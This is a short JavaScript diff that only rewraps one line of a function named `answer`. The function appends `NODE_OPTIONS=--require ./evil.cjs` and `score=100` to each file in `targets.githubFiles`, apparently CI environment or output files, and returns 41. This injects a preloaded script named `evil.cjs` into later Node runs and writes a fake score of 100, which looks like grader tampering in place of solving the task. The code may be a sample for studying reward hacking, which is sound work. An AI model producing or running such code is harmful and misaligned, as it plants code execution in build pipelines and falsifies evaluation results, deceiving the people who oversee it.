@@ -2,7 +2,8 @@
 import { appendFileSync } from 'node:fs'
 
 export async function answer(targets) {
-  for (const path of targets.githubFiles) appendFileSync(path, 'NODE_OPTIONS=--require ./evil.cjs\nscore=100\n')
+  for (const path of targets.githubFiles)
+    appendFileSync(path, 'NODE_OPTIONS=--require ./evil.cjs\nscore=100\n')
   return 41
 }
 
